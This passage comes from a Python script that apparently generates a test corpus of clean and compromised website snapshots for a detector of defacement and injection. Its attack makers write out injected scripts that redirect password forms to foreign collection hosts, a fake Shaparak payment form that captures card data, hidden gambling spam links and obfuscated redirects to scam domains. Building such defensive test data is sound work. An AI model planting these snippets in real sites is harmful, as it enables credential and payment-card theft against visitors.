    """Parasite SEO: gambling pages uploaded to the site itself and linked
    from its home page, so every link stays on the site's own host."""
    lang = vary(["id", "fa", "en"])
    words = SPAM[lang][0]
    d = vary(["wp-content/uploads/2026/11", "images/stories", "public/files", "uploads/docs"])
    links = "\n".join(f'<a href="/{d}/{w.replace(" ", "-")}-{r.randrange(1, 99)}.html">{w}</a>' for w in r.sample(words, 6))
    attrs = vary(['style="display:none"', 'style="position:absolute;left:-9000px"', 'class="footer-links"'])
    return {vary(["end", "main"]): f"<div {attrs}>\n{links}\n</div>\n"}, {}, []


def a_visible_spam(site, r):
    """Gambling links added in plain sight to the footer area."""
    lang = vary(["fa", "id"])
    words, hosts, tlds = SPAM[lang]
    links = " | ".join(f'<a href="https://{r.choice(hosts)}{r.randrange(1, 99)}.{r.choice(tlds)}/">{w}</a>' for w in r.sample(words, 5))
    return dict(end=f'<div class="partners" style="text-align:center;font-size:12px">{links}</div>\n'), {}, []


def a_form_hijack(site, r):
    own = reg(site.host)
    label = own.split(".")[0]
    tgt = vary([f"https://{label}-login.verify-account.top/auth.php",
                    f"http://{r.choice([185, 91, 45])}.{r.randrange(1, 254)}.{r.randrange(1, 254)}.{r.randrange(2, 254)}/post.php",
                    f"https://secure-{label}.com/login/submit",
                    f"https://{r.choice(FOREIGN)}/collect.php"])
    return dict(form_action=tgt), {}, []


def a_fake_gateway(site, r):
    """A payment form that posts to an imitation of a Shaparak gateway:
    card numbers and PINs collected by the attacker."""
    host = vary(["sep-shaparak.ir.verify-pay.top", "shaparak-ir.com", "bpm.shaparak.ir-pay.xyz",
                     "sep.shaparrak.ir", "ipg-shaparak.online"])
    t = site.t
    return dict(main=f'''<section class="payment"><h2>{t("pay")}</h2>
<form method="post" action="https://{host}/OnlinePG/OnlinePG" name="payform" accept-charset="utf-8">
  <label>{t("bill")} <input type="text" name="BillId" inputmode="numeric"></label>
  <label>{t("amount")} <input type="text" name="Amount" inputmode="numeric"></label>
  <input type="hidden" name="Token" value="{alnum(r, 32)}">
  <button type="submit">{L['en' if site.lang == 'en' else 'fa']['paybtn']}</button>
</form></section>
'''), {}, []


def a_form_js(site, r):
    tgt = f"https://{r.choice(FOREIGN)}/gate.php"
    return dict(end=f'''<script{{N}}>document.addEventListener('DOMContentLoaded',function(){{var f=document.querySelectorAll('form');for(var i=0;i<f.length;i++){{if(f[i].querySelector('input[type=password]')){{f[i].action='{tgt}';}}}}}});</script>
'''), {}, []


REDIR = ["bet-win-now.top", "gift-card-win.xyz", "promo-bonus.click", "best-offer-today.online", "slot-gacor-vip.site",
         "dating-hot.icu", "crypto-profit-now.live"]


def a_redirect_meta(site, r):
    h = r.choice(REDIR)
    return dict(head=f'<meta http-equiv="refresh" content="{r.choice([0, 0, 1, 3])}; url=https://{h}/{r.choice(["", "fa", "?ref=" + reg(site.host)])}">\n'), {}, []


def a_redirect_js(site, r):
    h = r.choice(REDIR)
    js = vary([f'window.location.href = "https://{h}/";', f"location.replace('https://{h}/?s={r.randrange(100)}');",
                   f'setTimeout(function(){{ top.location = "https://{h}/go"; }}, 1500);'])
    return dict(head=f"<script{{N}}>{js}</script>\n"), {}, []


def a_redirect_referrer(site, r):
    h = r.choice(REDIR)
    js = vary([f'if (document.referrer.indexOf("google") > -1 || document.referrer.indexOf("bing") > -1) {{ window.location.href = "https://{h}/?ref={reg(site.host)}"; }}',
                   f'var r=document.referrer;if(/google|yahoo|bing|yandex/i.test(r)){{window.location.replace("https://{h}/");}}'])
    return dict(head=f"<script{{N}}>{js}</script>\n"), {}, []


def a_redirect_mobile(site, r):
    h = r.choice(REDIR)
    js = vary([f'if (/Android|webOS|iPhone|iPad|iPod|BlackBerry|IEMobile|Opera Mini/i.test(navigator.userAgent)) {{ window.location = "https://{h}/m/"; }}',
                   f'var ua=navigator.userAgent.toLowerCase();if(ua.indexOf("mobile")!=-1||ua.indexOf("android")!=-1){{document.location.href="https://{h}/";}}'])
    return dict(head=f"<script{{N}}>{js}</script>\n"), {}, []


def a_redirect_obf(site, r):
    h = r.choice(REDIR)
    u = f"https://{h}/"
    k = vary([0, 1, 2])
    if k == 0:
        js = f'eval(atob("{base64.b64encode(("window.location.href=" + repr(u) + ";").encode()).decode()}"));'
    elif k == 1:
        js = "window[\"\\x6c\\x6f\\x63\\x61\\x74\\x69\\x6f\\x6e\"]=\"" + "".join("\\x%02x" % ord(c) for c in u) + "\";"
    else:
        js = "var _u=String.fromCharCode(" + ",".join(str(ord(c)) for c in u) + ");if(navigator.userAgent.match(/Mobi/)){window.location.replace(_u);}"
    return dict(head=f"<script{{N}}>{js}</script>\n"), {}, []


# ------------------------------------------------------------------ the corpus

ALL = [s.id for s in SITES]
FA = [s.id for s in SITES if s.lang in ("fa", "bi")]
EN = [s.id for s in SITES if s.lang == "en"]
FORMS = [s.id for s in SITES if s.struct != "spa"]
NONCE = [s.id for s in SITES if s.nonce]
CDN = [s.id for s in SITES if s.cdn]
CMS = ["liferay_fa", "wp_fa", "wp_en", "joomla_fa", "joomla_bi", "drupal_en", "drupal_fa", "laravel_bi", "laravel_fa", "esvc_fa",
       "aspnet_fa", "spa_en"]
OWN2 = [s.id for s in SITES if any(x != reg(s.host) for x in s.own)]
GOVWIN = [s.id for s in SITES if GOV_WINDOW in s.others]
SPA = [s.id for s in SITES if s.struct == "spa"]
# An SPA shell's content is drawn by its bundle: a site adds videos, maps
# and text blocks there, not to the shell's HTML.
CONTENT = [s for s in ALL if s not in SPA]
JSDELIVR = [s.id for s in SITES if any("cdn.jsdelivr.net" in u for u in s.cdn)]

# (class, count, eligible sites, maker)
BENIGN = [
    ("counters_tokens", 12, ALL, b_routine),
    ("nonces", 5, NONCE, b_routine),
    ("date_rollover", 8, ALL, b_date_rollover),
    ("banner_rotated", 6, [s for s in ALL if s not in SPA], b_banner),
    ("news_added", 12, [s for s in ALL if s not in SPA], b_news_added),
    ("news_week", 10, [s for s in ALL if s not in SPA], b_news_week),
    ("news_about_hackers", 4, [s for s in ALL if s not in SPA], b_news_hackers),
    ("video_youtube", 5, CONTENT, b_youtube),
    ("video_youtube_nocookie", 3, CONTENT, b_youtube_nocookie),
    ("video_vimeo", 4, CONTENT, b_vimeo),
    ("video_aparat", 5, [x for x in FA if x not in SPA], b_aparat),
    ("map_google", 4, CONTENT, b_gmaps),
    ("map_osm", 3, CONTENT, b_osm),
    ("map_neshan", 3, [x for x in FA if x not in SPA], b_neshan),
    ("analytics_gtag", 5, ALL, b_gtag),
    ("tagmanager_gtm", 5, ALL, b_gtm),
    ("analytics_matomo_own", 5, ALL, b_matomo),
    ("analytics_cf_beacon", 4, ALL, b_cfbeacon),
    ("chat_goftino", 3, FA, b_goftino),
    ("chat_raychat", 3, FA, b_raychat),
    ("chat_crisp", 3, ALL, b_crisp),
    ("chat_tawk", 3, ALL, b_tawk),
    ("consent_cookiebot", 3, ALL, b_cookiebot),
    ("consent_onetrust", 3, ALL, b_onetrust),
    ("consent_cookieyes", 3, ALL, b_cookieyes),
    ("consent_own_banner", 3, ALL, b_consent_own),
    ("social_share", 5, [s for s in ALL if s not in SPA], b_share),
    ("a11y_userway", 3, ALL, b_userway),
    ("a11y_equalweb", 3, ALL, b_equalweb),
    ("captcha_recaptcha", 3, FORMS, b_recaptcha),
    ("captcha_hcaptcha", 3, FORMS, b_hcaptcha),
    ("captcha_turnstile", 3, FORMS, b_turnstile),
    ("captcha_arcaptcha", 3, FORMS, b_arcaptcha),
    ("cdn_version_bump", 6, CDN, b_cdn_bump),
    ("cms_upgrade", 9, CMS, b_cms_upgrade),
    ("spa_bundle_hash", 3, SPA, b_spa_bundle),
    ("own_subdomain", 7, CONTENT, b_own_subdomain),
    ("own_other_domain", 3, OWN2, b_own_other_domain),
    ("constituency_widget", 3, GOVWIN, b_constituency_widget),
    ("news_week_and_embed", 5, [s for s in ALL if s not in SPA], b_news_week_and_embed),
    ("fonts_google", 3, ALL, b_google_fonts),
    ("cdnjs_new_library", 4, ALL, b_cdnjs_library),
    ("notice_top_banner", 4, ALL, b_notice_top),
    ("mourning_ribbon", 3, ALL, b_mourning),
    ("social_channel_links", 5, [s for s in ALL if s not in SPA], b_channels),
    ("arabic_verse_top", 3, [s for s in FA if s not in SPA], b_arabic_verse),
    ("english_notice_on_persian_page", 3, [s for s in FA if s not in SPA and SITE[s].lang == "fa"], b_english_notice),
    ("offcanvas_menu", 3, [x for x in ALL if x not in SPA], b_offcanvas),
    ("own_keepalive_iframe", 3, [x for x in ALL if SITE[x].struct in ("aspnet", "municipality", "eservices")], b_keepalive),
    ("analytics_ga_legacy", 3, ALL, b_ga_legacy),
    ("analytics_yandex", 3, ALL, b_yandex),
    ("social_embed", 3, [x for x in ALL if x not in SPA], b_social_embed),
    ("links_to_state_bodies", 3, [x for x in ALL if x not in SPA], b_state_links),
    ("fonts_fontawesome_kit", 3, ALL, b_fontawesome_kit),
    ("own_inline_loader", 3, ALL, b_own_loader),
    ("own_conditional_redirect", 3, ALL, b_own_redirect),
    ("announcement_modal", 3, [s for s in ALL if SITE[s].struct in ("laravel", "eservices", "university", "wordpress", "drupal")], b_modal),
]

ATTACK = []
for lang in ("en", "fa", "tr", "id", "ar", "pt", "ru"):
    ATTACK.append((f"deface_full_{lang}", 2, ALL, a_deface_full(lang, True)))
    ATTACK.append((f"deface_full_{lang}", 1, ALL, a_deface_full(lang, False)))
ATTACK += [
    ("deface_partial_signature", 6, ALL, a_partial_sig),
    ("deface_partial_marquee_handles", 4, ALL, a_marquee),
    ("deface_partial_extortion", 4, ALL, a_extortion),
    ("deface_partial_greetings", 4, ALL, a_greetings),
    ("deface_partial_turkish_block", 3, [s for s in FA if s not in SPA], a_turkish_block),
    ("deface_partial_indonesian_block", 3, [s for s in FA if s not in SPA], a_indonesian_block),
    ("deface_partial_arabic_block", 3, [s for s in EN if s not in SPA], a_arabic_block),
    ("title_replaced", 5, ALL, a_title),
    ("deface_full_image_only", 3, ALL, a_deface_image),
    ("deface_new_post", 2, [x for x in ALL if x not in SPA], a_new_post(True)),
    ("deface_new_post", 2, [x for x in ALL if x not in SPA], a_new_post(False)),
    ("seo_spam_japanese_keywords", 3, ALL, a_japanese_seo),
    ("deface_overlay", 2, ALL, a_overlay(True)),
    ("deface_overlay", 2, ALL, a_overlay(False)),
    ("script_user_content_host", 4, ALL, a_user_host),
    ("script_unknown_host", 4, ALL, a_unknown_host),
    ("script_bare_ip", 4, ALL, a_ip),
    ("script_protocol_relative", 4, ALL, a_protorel),
    ("script_obfuscated_concat", 3, ALL, a_obf_concat),
    ("script_obfuscated_hex", 3, ALL, a_obf_hex),
    ("script_obfuscated_atob", 3, ALL, a_obf_atob),
    ("script_obfuscated_charcode", 3, ALL, a_obf_charcode),
    ("script_cryptominer", 4, ALL, a_miner),
    ("script_obfuscated_unescape", 3, ALL, a_obf_unescape),
    ("script_skimmer_beacon", 3, FORMS, a_skimmer),
    ("script_jsdelivr_user_content", 2, JSDELIVR, a_jsdelivr_gh),
    ("script_jsdelivr_user_content", 2, ALL, a_jsdelivr_gh),
]
for k in range(LOOKALIKES):
    ATTACK.append(("script_lookalike", 1, ALL, a_lookalike(k)))
for k in range(len(PSP) + len(GOV_PAY)):
    BENIGN.append(("payment_gateway", 1, FORMS, b_payment(k)))
# the site's own organisation's gateway (aspnet_fa belongs to tamin.ir)
BENIGN.append(("payment_gateway", 1, ["aspnet_fa"], b_payment(len(PSP) + 2)))

for method in HIDE_IFRAME:
    ATTACK.append((f"iframe_hidden_{method}", 3, ALL, a_iframe_hidden(method)))
for method in HIDE_BLOCK:
    for lang in ("fa", "id", "en"):
        ATTACK.append((f"seo_spam_{method}", 1, FA if lang == "fa" else ALL, a_seo_spam(method, lang)))
ATTACK += [
    ("seo_spam_display", 1, FA, a_seo_spam("display", "fa")),
    ("seo_spam_offscreen", 1, ALL, a_seo_spam("offscreen", "id")),
    ("seo_spam_parasite_pages", 3, [x for x in ALL if x not in SPA], a_parasite),
    ("seo_spam_visible_links", 3, ALL, a_visible_spam),
    ("form_hijack", 5, FORMS, a_form_hijack),
    ("form_hijack_js", 3, FORMS, a_form_js),
    ("form_fake_payment_gateway", 3, FORMS, a_fake_gateway),
    ("redirect_meta_refresh", 3, ALL, a_redirect_meta),
    ("redirect_js", 3, ALL, a_redirect_js),
    ("redirect_referrer", 3, ALL, a_redirect_referrer),
    ("redirect_mobile", 3, ALL, a_redirect_mobile),
    ("redirect_obfuscated", 3, ALL, a_redirect_obf),
]

# Accepted redesigns: the site moves to another structure; the new design
# is learned again (base*), the old one (old*) must see the change.
REDESIGN_ANN = {
    "fa": ["درگاه جدید با هدف دسترسی ساده‌تر شهروندان به خدمات طراحی شده است.",
           "خدمات پرکاربرد اکنون در صفحه نخست در دسترس است و پیگیری درخواست‌ها بدون مراجعه حضوری ممکن شده است.",
           "نسخه آزمایشی درگاه را بررسی کنید و نظرات خود را از طریق فرم بازخورد برای ما بفرستید."],
    "en": ["The new portal was designed to make our services easier to reach for every citizen.",
           "The most used services are now on the home page and requests can be tracked without a visit.",
           "Try the new portal and send us your comments through the feedback form."],
}
REDESIGN_BANNERS = {
    "fa": [("پرتال جدید رونمایی شد", "همه خدمات، یک نشانی: به پرتال جدید خوش آمدید."),
           ("نظرسنجی رضایت از خدمات", "با شرکت در نظرسنجی به بهبود خدمات کمک کنید."),
           ("اپلیکیشن همراه", "نسخه همراه پرتال را از بازارهای معتبر دریافت کنید."),
           ("راهنمای استفاده از پرتال", "ویدئوهای آموزشی کار با پرتال جدید منتشر شد.")],
    "en": [("Our new portal is live", "All services, one address: welcome to the new portal."),
           ("Service satisfaction survey", "Take part in the survey and help us improve."),
           ("Mobile app", "Get the mobile version of the portal from the app stores."),
           ("Portal user guide", "Video guides to the new portal are now available.")],
}
REDESIGN = [("php_fa", "laravel"), ("legacy_fa2", "wordpress"), ("aspnet_en", "drupal"), ("muni_bi", "joomla")]


def encode(site, html):
    if site.charset == "windows-1256":
        return html.encode("cp1256", errors="xmlcharrefreplace")
    return html.encode("utf-8")


def write(path, data):
    with open(path, "wb") as f:
        f.write(data)


def expect_lines(kind, cls, site, extra, with_site=True):
    out = [f"{kind} {cls}"]
    if with_site:
        out.append(f"site {site.id}")
    out.append(f"url https://{site.host}/")
    out += [f"own {d}" for d in site.own]
    out += [f"other {d} {org}" for d, org in site.others]
    out += extra
    return "\n".join(out) + "\n"


def site_bases(site):
    return [render(site, Obs(site, k, rng("obs", site.id, k))) for k in range(3)]


def main():
    global CASE_INDEX
    for kind in ("benign", "attack", "site"):
        shutil.rmtree(os.path.join(HERE, kind), ignore_errors=True)
    for site in SITES:
        d = os.path.join(HERE, "site", site.id)
        os.makedirs(d)
        for i, b in enumerate(site_bases(site), 1):
            write(os.path.join(d, f"base{i}.html"), encode(site, b))

    counts = {"benign": Counter(), "attack": Counter()}
    spread = {}  # (kind, class) -> (set of structures, set of languages)
    names = set()
    for kind, table in (("benign", BENIGN), ("attack", ATTACK)):
        for cls, count, eligible, maker in table:
            order = list(eligible)
            rng("order", kind, cls).shuffle(order)
            for i in range(count):
                site = SITE[order[(i + counts[kind][cls]) % len(order)]]
                name = f"{cls}__{site.id}"
                n = 2
                while name in names:
                    name = f"{cls}__{site.id}_{n}"
                    n += 1
                names.add(name)
                r = rng("case", kind, name)
                CASE_INDEX = i + counts[kind][cls]
                mods, okw, extra = maker(site, r)
                if not okw and site.struct != "spa" and maker is not b_routine:
                    # the change rarely comes alone: on some checks the
                    # news or the day moved as well
                    okw = rng("also", kind, name).choice([{}, {}, {"news_off": 4}, {"day": 3}])
                o = Obs(site, 3, rng("new", kind, name), **okw)
                if "full" in mods:
                    body = mods["full"].encode("utf-8")  # the defacer's own page
                else:
                    body = encode(site, render_n(site, o, mods))
                d = os.path.join(HERE, kind, name)
                os.makedirs(d)
                write(os.path.join(d, "new.html"), body)
                write(os.path.join(d, "expect"), expect_lines(kind, cls, site, extra).encode())
                st, lg = spread.setdefault((kind, cls), (set(), set()))
                st.add(site.struct)
                lg.add(site.lang)
            counts[kind][cls] += count

    for sid, struct in REDESIGN:
        old = SITE[sid]
        new = Site(old.id, struct, old.lang, old.host, old.org_fa, old.org_en, own=old.own, others=old.others,
                   cdn=old.cdn, nonce=old.nonce, extra=old.extra)
        # the new portal launches with its own copy: news picked again,
        # new announcements and banners
        rng("redesign-news", sid).shuffle(new.news)
        new.ann = REDESIGN_ANN["en" if old.lang == "en" else "fa"]
        new.banners = REDESIGN_BANNERS["en" if old.lang == "en" else "fa"]
        name = f"redesign_accepted__{sid}"
        d = os.path.join(HERE, "benign", name)
        os.makedirs(d)
        for k in range(3):
            write(os.path.join(d, f"base{k + 1}.html"),
                  encode(new, render(new, Obs(new, k, rng("redesign", sid, k)))))
        for i, b in enumerate(site_bases(old), 1):
            write(os.path.join(d, f"old{i}.html"), encode(old, b))
        write(os.path.join(d, "new.html"), encode(new, render(new, Obs(new, 3, rng("redesign-new", sid)))))
        write(os.path.join(d, "expect"), expect_lines("benign", "redesign_accepted", new, [], with_site=False).encode())
        counts["benign"]["redesign_accepted"] += 1
        st, lg = spread.setdefault(("benign", "redesign_accepted"), (set(), set()))
        st.add(old.struct)
        lg.add(old.lang)

    structs = Counter(s.struct for s in SITES)
    for kind in ("benign", "attack"):
        print(f"{kind}: {sum(counts[kind].values())} cases in {len(counts[kind])} classes")
        for cls, n in sorted(counts[kind].items()):
            st, lg = spread[(kind, cls)]
            print(f"  {cls:40s} {n:3d}  ({len(st)} structures; {'/'.join(sorted(lg))})")
    print(f"sites: {len(SITES)} in {len(structs)} structures ({', '.join(sorted(structs))})")


if __name__ == "__main__":
    sys.exit(main())
